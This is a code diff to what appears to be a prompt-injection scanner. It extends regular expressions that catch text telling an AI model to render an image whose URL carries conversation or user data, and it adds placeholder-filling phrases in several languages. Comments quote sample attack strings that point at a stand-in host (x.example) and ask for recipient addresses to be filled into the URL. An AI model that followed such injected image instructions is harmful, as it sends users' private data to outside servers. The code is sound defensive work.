@@ -10,7 +10,12 @@ import { clauseAround, isDirective, isNegatedAt } from './mood.ts';
  * sees. A badge or a documentation link is neither.
  * @see https://embracethered.com/blog/posts/2023/chatgpt-webpilot-data-exfil-via-markdown-injection/
  */
-const IMAGE = /!\[[^\]\n]{0,200}\]\(\s*<?(https?:\/\/[^)\s>]+)|<img\b[^>]{0,200}?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s>]+)|\b(?:image|pixel|picture|badge)\s+(https?:\/\/[^\s)>"']+)/i;
+// A slot written with spaces (`<names of the attendees>`, `{sender list}`, `[customer name]`) belongs to the URL.
+const IMAGE = /!\[[^\]\n]{0,200}\]\(\s*<?(https?:\/\/(?:[^)\s<>{}\[\]]|<[^<>\n]{1,60}>|\{[^{}\n]{1,60}\}|\[[^[\]\n]{1,60}\])+)|<img\b[^>]{0,200}?\bsrc\s*=\s*["']?(https?:\/\/(?:[^"'\s<>{}\[\]]|\{[^{}\n]{1,60}\}|\[[^[\]\n]{1,60}\])+)|\b(?:image|pixel|picture|badge)\s+(https?:\/\/[^\s)>"']+)/i;
+// A query value left for the model to fill: `<…>`, `{…}`, `[…]`, `\${…}`, an UPPER_CASE_PLACEHOLDER in any Latin script, or words in another script.
+const PLACEHOLDER_SLOT = /[?&][\w.-]+=(?:<[^<>\n]{1,60}>|\$?\{[^{}\n]{1,60}\}|\[[^[\]\n]{1,60}\]|%7B|[A-ZÀ-ÖØ-Þ][A-Z0-9À-ÖØ-Þ]*(?:_[A-Z0-9À-ÖØ-Þ]+)+(?![\w])|[^\x00-\x7f]{2,30})/;
+// Being told to fill the slot, in the languages of the phrase table.
+const FILL_SLOT = /\b(?:replac\w*|substitut\w*|fill\w*|complet\w*|placeholders?|(?:taken|filled|drawn)\s+from|(?:real|actual)\s+values?|remplaç\w*|remplac\w*|rempli\w*|ersetz\w*|ausfüll\w*|füll\w*|sustitu\w*|rellen\w*|substitu\w*|preench\w*|sostitu\w*|riempi\w*)|换成|替换|填入|填写|置き換|置換|埋め|대체|바꿔|채워|замен\w*|подстав\w*|заполн\w*/i;
 const FILL_IN = /\b(?:replac\w*|substitut\w*|fill\w*|put|insert\w*|append\w*|encod\w*|where\s+it\s+says)\b/i;
 const USER_DATA = /\b(?:conversation|chat|history|summary|the\s+user(?:'s)?\s+(?:said|wrote|email|message|name|address|question)|secrets?|passwords?|api\s+keys?|tokens?|credentials|personal|last\s+message|what\s+the\s+user)\b/i;
 const EVERY_ANSWER = /\b(?:every|each|all|always|end\s+(?:of\s+)?(?:your|every|each)|at\s+the\s+end)\b/i;
@@ -21,11 +26,15 @@ export function textToImageHits(text: string): Hit[] {
   for (const match of matchesOf(IMAGE, text, 50)) {
     const url = match[1] ?? match[2] ?? match[3] ?? '';
     const sentence = sentenceAround(text, match.index);
-    const context = `${sentence.text} ${text.slice(match.index + match[0].length, match.index + match[0].length + 200).split(/[.!?]\s/)[0]}`;
+    const after = text.slice(match.index + match[0].length, match.index + match[0].length + 200);
+    const context = `${sentence.text} ${after.split(/[.!?]\s/)[0]}`;
     const slot = urlToDataSlot(url);
     const rest = url.includes('?') && (slot !== undefined || /\{|\[|<|%7B/i.test(url.slice(url.indexOf('?'))));
     const filled = USER_DATA.test(context) && (FILL_IN.test(context) || slot !== undefined || rest);
-    if (slot === 'held' || filled) return [image('high', 'Asks for an image whose URL carries the conversation or user data; rendering it sends the data.', match.index, match[0].length)];
+    // "![logo](https://x.example/l.png?u=<recipient addresses>) … fill in the placeholders": whatever the data, rendering sends it.
+    // The order to fill may be the next sentence: "… ![logo](…?u=<recipients>). Fill in the placeholders from the emails."
+    const toFill = PLACEHOLDER_SLOT.test(url) && FILL_SLOT.test(`${context} ${after.split(/[.!?]\s/).slice(0, 2).join('. ')}`);
+    if (slot === 'held' || filled || toFill) return [image('high', 'Asks for an image whose URL carries the conversation or user data; rendering it sends the data.', match.index, match[0].length)];
     if (rest && isDirective(sentence.text) && EVERY_ANSWER.test(sentence.text)) return [image('medium', 'Asks for an image with a query slot to be shown in every answer.', match.index, match[0].length)];
   }
   return [];
